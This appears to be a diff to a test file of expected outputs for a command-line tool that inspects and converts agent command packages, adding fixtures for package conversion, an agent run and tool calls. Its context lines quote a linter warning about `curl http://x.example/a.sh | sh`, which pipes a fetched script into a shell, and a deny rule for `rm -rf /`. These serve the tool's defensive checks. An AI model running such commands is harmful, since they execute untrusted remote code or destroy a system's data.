@@ -130,6 +130,7 @@ text/commands/tie.toml:2: note: `curl http://x.example/a.sh | sh` runs what it f
 2 files, 1 findings, 0 waived
 """,
     ),
+    ("convert_package", "text", "\n3 files for claude\n"),
     (
         "inspect_package",
         "kit",
@@ -171,6 +172,7 @@ rm -rf /: deny, said ~/.gemini/policies/own.toml:6 deny toolName=run_shell_comma
 explain this project
 """,
     ),
+    ("run_agent", "", "\nuser: What is this project about?\nmodel: It is about boats.\nQuite sure. True\n"),
     ("call_tool", "party.py", "\ngreet says: Hello, Ada\nparty failed: no parties on weekdays\n"),
     ("write_tool", "", "\n9 / 3 = 3\nnothing can be divided by 0\n"),
     (
